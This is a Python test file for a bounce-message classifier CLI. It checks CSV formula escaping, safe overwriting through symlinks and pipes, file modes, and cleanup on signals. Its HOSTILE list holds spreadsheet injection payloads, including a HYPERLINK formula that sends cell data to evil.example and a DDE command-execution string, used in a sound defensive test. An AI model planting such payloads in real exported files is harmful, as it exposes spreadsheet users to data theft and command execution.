"""Output files: formula injection, what --overwrite may replace, permissions, signals."""

from __future__ import annotations

import csv
import io
import json
import os
import signal
import stat
import subprocess
import sys
import threading
import time
from pathlib import Path

import pytest
from typer.testing import CliRunner

from bounce_ml.cli import app

runner = CliRunner()
HOSTILE = [
    '=HYPERLINK("http://evil.example/?"&A1,"click") 550 user unknown',
    "+1 552 mailbox full",
    "-2+3 554 rejected",
    "@SUM(1+1) 550 no such user",
    "=cmd|' /C calc'!A0 421 try later",
]


def _csv_rows(text: str) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(text)))


def test_csv_output_escapes_cells_a_spreadsheet_would_run_as_formulas(tmp_path: Path) -> None:
    source = tmp_path / "hostile.jsonl"
    source.write_text("".join(json.dumps({"text": t}) + "\n" for t in HOSTILE), encoding="utf-8")
    result = runner.invoke(app, ["predict", "-i", str(source), "-f", "csv"])
    assert result.exit_code == 0, result.output
    rows = _csv_rows(result.stdout)
    assert [row["text"] for row in rows] == ["'" + text for text in HOSTILE]
    assert rows[0]["label"] == "user_unknown"  # ordinary cells are left alone

    raw = runner.invoke(app, ["predict", "-i", str(source), "-f", "csv", "--no-escape-formulas"])
    assert [row["text"] for row in _csv_rows(raw.stdout)] == HOSTILE


def test_json_output_is_never_escaped() -> None:
    result = runner.invoke(app, ["predict", "-f", "json", HOSTILE[0]])
    assert json.loads(result.stdout)[0]["text"] == HOSTILE[0]


UU = "550 5.1.1 <bob@example.com>: Recipient address rejected: User unknown"


def test_overwrite_through_a_symlink_keeps_the_link_and_replaces_its_file(tmp_path: Path) -> None:
    target = tmp_path / "real.jsonl"
    target.write_text("old\n", encoding="utf-8")
    link = tmp_path / "link.jsonl"
    link.symlink_to(target)
    result = runner.invoke(app, ["predict", "-o", str(link), "--overwrite", UU])
    assert result.exit_code == 0, result.output
    assert link.is_symlink() and link.resolve() == target
    assert json.loads(target.read_text(encoding="utf-8"))["label"] == "user_unknown"


def test_a_device_or_pipe_is_written_to_never_replaced(tmp_path: Path) -> None:
    link = tmp_path / "null.jsonl"
    link.symlink_to("/dev/null")  # what /dev/stdout is: a link to a device or pipe
    for flags in ([], ["--overwrite"]):
        result = runner.invoke(app, ["predict", "-o", str(link), *flags, UU])
        assert result.exit_code == 0, result.output
        assert link.is_symlink() and os.readlink(link) == "/dev/null"
    assert Path("/dev/null").is_char_device()

    pipe = tmp_path / "pipe.jsonl"
    os.mkfifo(pipe)
    received: list[str] = []
    reader = threading.Thread(target=lambda: received.append(pipe.read_text(encoding="utf-8")))
    reader.start()
    result = runner.invoke(app, ["predict", "-o", str(pipe), "--overwrite", UU])
    reader.join(timeout=60)
    assert result.exit_code == 0, result.output
    assert stat.S_ISFIFO(os.lstat(pipe).st_mode)
    assert json.loads(received[0])["label"] == "user_unknown"


def test_a_folder_is_refused_as_output(tmp_path: Path) -> None:
    folder = tmp_path / "out.jsonl"
    folder.mkdir()
    result = runner.invoke(app, ["predict", "-o", str(folder), "--overwrite", UU])
    assert result.exit_code == 1
    assert result.output.startswith(f"bounce-ml: error: {folder}: not a regular file")
    assert folder.is_dir()


def test_new_output_files_honour_the_umask_and_replaced_ones_keep_their_mode(
    tmp_path: Path,
) -> None:
    previous = os.umask(0o027)
    try:
        result = runner.invoke(app, ["predict", "-o", str(tmp_path / "new.jsonl"), UU])
    finally:
        os.umask(previous)
    assert result.exit_code == 0, result.output
    assert stat.S_IMODE((tmp_path / "new.jsonl").stat().st_mode) == 0o640

    kept = tmp_path / "kept.jsonl"
    kept.write_text("old\n", encoding="utf-8")
    kept.chmod(0o604)
    runner.invoke(app, ["predict", "-o", str(kept), "--overwrite", UU])
    assert stat.S_IMODE(kept.stat().st_mode) == 0o604


def _run_until_temporary_file(tmp_path: Path, output: Path) -> subprocess.Popen:
    source = tmp_path / "big.txt"
    source.write_text("".join(f"550 5.1.1 user{n} unknown\n" for n in range(300_000)))
    command = ["predict", "-i", str(source), "-o", str(output)]
    process = subprocess.Popen(
        [sys.executable, "-c", "from bounce_ml.cli import app; app()", *command],
        stderr=subprocess.PIPE,
    )
    deadline = time.monotonic() + 60
    while not list(tmp_path.glob(f".{output.name}.*")):
        assert process.poll() is None and time.monotonic() < deadline
        time.sleep(0.05)
    return process


@pytest.mark.slow
@pytest.mark.parametrize("signum", [signal.SIGTERM, signal.SIGHUP])
def test_terminating_a_run_removes_its_temporary_file(tmp_path: Path, signum: int) -> None:
    output = tmp_path / "out.jsonl"
    process = _run_until_temporary_file(tmp_path, output)
    process.send_signal(signum)
    _, stderr = process.communicate(timeout=60)
    assert process.returncode == 128 + signum
    assert f"stopped by {signal.Signals(signum).name}".encode() in stderr
    assert sorted(path.name for path in tmp_path.iterdir()) == ["big.txt"]
